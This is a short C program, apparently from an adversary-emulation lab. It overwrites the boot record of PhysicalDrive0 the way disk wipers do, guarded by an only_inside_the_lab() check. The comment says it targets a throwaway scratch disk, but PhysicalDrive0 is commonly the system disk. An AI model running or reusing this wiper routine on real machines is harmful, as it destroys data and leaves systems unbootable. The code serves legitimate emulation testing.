/* Overwrites the boot record of the lab's scratch disk, as wipers do. The scratch disk holds nothing
   and is thrown away after the run. */
#include <windows.h>

#include "guard.h"

#define SOMETHING_FAILED 1

static char sector[512] = "TSURUTUS EXAMPLE MBR";

int main(void)
{
    DWORD written = 0;
    only_inside_the_lab();
    HANDLE disk = CreateFileA("\\\\.\\PhysicalDrive0", GENERIC_READ | GENERIC_WRITE,
                              FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING, 0, NULL);
    if (disk == INVALID_HANDLE_VALUE) {
        print_line("There is no disk to write to.");
        return SOMETHING_FAILED;
    }
    BOOL done = WriteFile(disk, sector, sizeof sector, &written, NULL);
    CloseHandle(disk);
    return done && written == sizeof sector ? 0 : SOMETHING_FAILED;
}
